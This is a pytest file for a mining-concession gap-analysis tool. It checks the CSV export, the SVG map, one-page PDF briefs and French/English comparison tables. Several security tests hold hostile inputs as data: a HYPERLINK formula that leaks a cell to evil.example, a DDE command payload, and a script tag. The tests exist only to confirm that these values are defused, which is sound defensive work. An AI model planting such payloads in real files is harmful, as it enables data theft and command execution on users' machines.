"""What people take away: CSV columns, no formula injection, the SVG map, the one-page PDF brief."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

import geopandas as gpd
import pandas as pd
import pypdf
import pytest
from shapely.geometry import Point, Polygon

from atlas.common.reports.brief import build_brief_pdf
from atlas.common.reports.svg_map import SvgLayer, render_svg
from atlas.common.reports.tables import excel_safe_csv
from atlas.features.csr.analysis.compare import FIGURE_KEYS, compare
from atlas.features.csr.analysis.gaps import EXPORT_COLUMNS, analyse, export_frame
from atlas.features.csr.analysis.zone import candidates_frame, registry_concessions
from atlas.features.csr.reports.report import brief_pdf, caveats, comparison_table, display_table, method_text
from atlas.foundation.config import WGS84
from atlas.foundation.i18n import t

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _pdf_text(data: bytes) -> tuple[int, str]:
    reader = pypdf.PdfReader(io.BytesIO(data))
    text = " ".join(page.extract_text() for page in reader.pages)
    return len(reader.pages), re.sub(r"\s+", " ", text)


@pytest.fixture(scope="module")
def niamia():
    return analyse(["Niamia"], 15.0)


@pytest.fixture(scope="module")
def hostile_result():
    """Real concession and context, but the gazetteer holds villages with hostile names."""
    from atlas.layers.registry import load_frame

    places = load_frame("places").copy()
    sites = load_frame("mining_sites").copy()
    khossanto = places.index[places["name"] == "Khossanto"][0]
    places.loc[khossanto, "name"] = HOSTILE
    sabodala = places.index[places["name"] == "Sabodala"][0]
    places.loc[sabodala, "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    return analyse(["Niamia"], 15.0, candidates=candidates_frame(places, sites))


def test_csv_has_the_issue_columns_in_order(niamia):
    frame = export_frame(niamia)
    assert list(frame.columns) == list(EXPORT_COLUMNS)
    assert {"name", "kind", "distance_km", "gap_score", "rank"} <= set(frame.columns)
    parsed = pd.read_csv(io.BytesIO(excel_safe_csv(frame)), encoding="utf-8-sig")
    assert list(parsed.columns) == list(EXPORT_COLUMNS)
    assert len(parsed) == len(niamia.table)
    assert (parsed["footprint_basis"] == "perimeter").all() and (parsed["concession"] == "Niamia").all()


def test_no_formula_injection_in_excel_csv(hostile_result):
    data = excel_safe_csv(export_frame(hostile_result)).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
    assert any(HOSTILE in cell for cell in cells)  # the name is kept...
    text_cells = [c for c in cells if not _is_number(c)]  # numbers (negative longitudes) stay numbers
    assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@")]  # ...but text is defused
    assert "'" + HOSTILE in cells


def test_hostile_names_are_inert_in_svg_and_pdf(hostile_result):
    svg = render_svg([SvgLayer(hostile_result.table, label_column="name")], width=300)
    ET.fromstring(svg)  # still well-formed XML
    pdf = brief_pdf(hostile_result, "en")
    assert pdf.startswith(b"%PDF")


def test_brief_contains_method_note_caveats_and_fits_one_page(niamia):
    for lang in ("fr", "en"):
        pages, text = _pdf_text(brief_pdf(niamia, lang))
        assert pages == 1
        method = re.sub(r"\s+", " ", method_text(niamia, lang))
        assert method in text
        assert t("brief.method", lang) in text
        for caveat in caveats(niamia, lang):
            assert caveat in text
        assert "SYNTH" in text  # the synthetic layer is flagged


def test_brief_prints_unicode_beyond_latin1():
    svg = render_svg(
        [
            SvgLayer(
                gpd.GeoDataFrame({"name": ["Témoto ≤ 5 km"]}, geometry=[Point(-12, 13)], crs=WGS84), label_column="name"
            )
        ],
        width=200,
    )
    data = build_brief_pdf(
        "Fiche – essai",
        "fr",
        svg,
        [("Seuil ≤", "10 – 19")],
        None,
        "Méthode : « ≤ » et « – » s’impriment.",
        ["Données synthétiques"],
        ["Source é"],
    )
    pages, text = _pdf_text(data)
    assert pages == 1
    for needle in ("Fiche – essai", "Seuil ≤", "10 – 19", "« ≤ » et « – » s’impriment", "Témoto ≤ 5 km"):
        assert needle in text


def test_brief_with_a_long_table_still_fits_one_page():
    table = pd.DataFrame({"rank": range(1, 200), "name": [f"Village {i} with a rather long name" for i in range(199)]})
    method = "Long method note. " * 60
    pages, text = _pdf_text(
        build_brief_pdf("Long", "en", None, [("a", "1")] * 10, table, method, ["caveat"] * 8, ["source"] * 8)
    )
    assert pages == 1
    assert "Long method note." in text


def test_svg_projection_and_escaping():
    frame = gpd.GeoDataFrame(
        {"name": ["<script>alert(1)</script>", "east"]}, geometry=[Point(-12.0, 13.0), Point(-11.0, 13.0)], crs=WGS84
    )
    square = gpd.GeoDataFrame(geometry=[Polygon([(-12, 12), (-11, 12), (-11, 13), (-12, 13)])], crs=WGS84)
    svg = render_svg([SvgLayer(square), SvgLayer(frame, label_column="name")], width=500, padding=0, scale_bar=False)
    root = ET.fromstring(svg)
    assert "<script>" not in svg and "&lt;script&gt;" in svg
    assert "href" not in svg and "http://" not in svg.replace('xmlns="http://www.w3.org/2000/svg"', "")
    # equirectangular with cos(lat) scaling: a 1°×1° square at 12.5°N is 1/cos(12.5°) taller than wide
    height = float(root.get("height"))
    assert height == pytest.approx(500 / 0.976296, abs=1.5)
    circles = root.findall("{http://www.w3.org/2000/svg}g/{http://www.w3.org/2000/svg}circle")
    xs = sorted(float(c.get("cx")) for c in circles)
    assert xs == pytest.approx([0.0, 500.0], abs=0.2)


def test_svg_refuses_nothing_to_draw():
    with pytest.raises(ValueError, match="empty"):
        render_svg([SvgLayer(gpd.GeoDataFrame(geometry=[], crs=WGS84))])


def test_display_table_is_translated(niamia):
    fr = display_table(niamia, "fr")
    en = display_table(niamia, "en")
    assert "Score de lacune" in fr.columns and "Gap score" in en.columns
    assert "village minier" in set(fr[t("csr.col.kind", "fr")])
    assert len(fr) == len(niamia.table)


def test_comparison_side_by_side(niamia):
    boto = analyse(["Boto"], 15.0)
    frame = compare(niamia, boto)
    assert list(frame.columns) == ["figure", "Niamia", "Boto"]
    assert list(frame["figure"]) == list(FIGURE_KEYS)
    figures = frame.set_index("figure")
    assert figures.loc["members", "Niamia"] == len(niamia.table)
    assert figures.loc["members", "Boto"] == len(boto.table)
    assert figures.loc["footprint_basis", "Boto"] == "point_only"
    shown = comparison_table(niamia, boto, "fr")
    assert shown.shape == (len(FIGURE_KEYS), 3)
    assert "point seul (surface inconnue)" in set(shown["Boto"])


def test_every_concession_analyses_and_briefs():
    for name in registry_concessions()["name"]:
        result = analyse([name], 15.0)
        assert result.zone.area_km2 > 700  # at least the 15 km disc around a point
        assert t(f"csr.basis.{result.footprint.basis}", "fr") != f"csr.basis.{result.footprint.basis}"


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_the_brief_carries_the_whole_two_concession_comparison(niamia, lang):
    """Issue 12: the comparison was only on screen, its last rows hidden; the brief now prints every row."""
    other = analyse(["Boto"], 15.0)
    table = comparison_table(niamia, other, lang)
    pages, text = _pdf_text(brief_pdf(niamia, lang, other))
    assert pages == 1
    assert t("csr.compare.title", lang) in text
    for label in table.iloc[:, 0]:
        assert re.sub(r"\s+", " ", label) in text  # every row, the last ones included, never cut with "…"
    _, without = _pdf_text(brief_pdf(niamia, lang))
    assert t("csr.compare.title", lang) not in without


def test_comparison_numbers_follow_the_page_language(niamia):
    other = analyse(["Boto"], 15.0)
    fr, en = comparison_table(niamia, other, "fr"), comparison_table(niamia, other, "en")
    values_fr, values_en = fr.iloc[:, 1:].to_numpy().ravel(), en.iloc[:, 1:].to_numpy().ravel()
    assert not any(re.fullmatch(r"\d+\.\d+", v) for v in values_fr)  # never "12.5" on a French page
    assert not any(re.fullmatch(r"\d+,\d+", v) for v in values_en)  # never "12,5" on an English one
    assert any(re.fullmatch(r"\d+,\d+", v) for v in values_fr) == any(re.fullmatch(r"\d+\.\d+", v) for v in values_en)


def test_the_comparison_names_the_top_member_in_the_page_language():
    """Issue 12: "Sabodala Mining Concession (reference point)" was shown as is on French pages."""
    makana, other = analyse(["Makana Est"], 15.0), analyse(["Boto"], 15.0)
    french = comparison_table(makana, other, "fr")
    top = french.iloc[-1, 1]
    assert top == "Concession minière de Sabodala (point de référence)"
    assert comparison_table(makana, other, "en").iloc[-1, 1] == "Sabodala Mining Concession (reference point)"
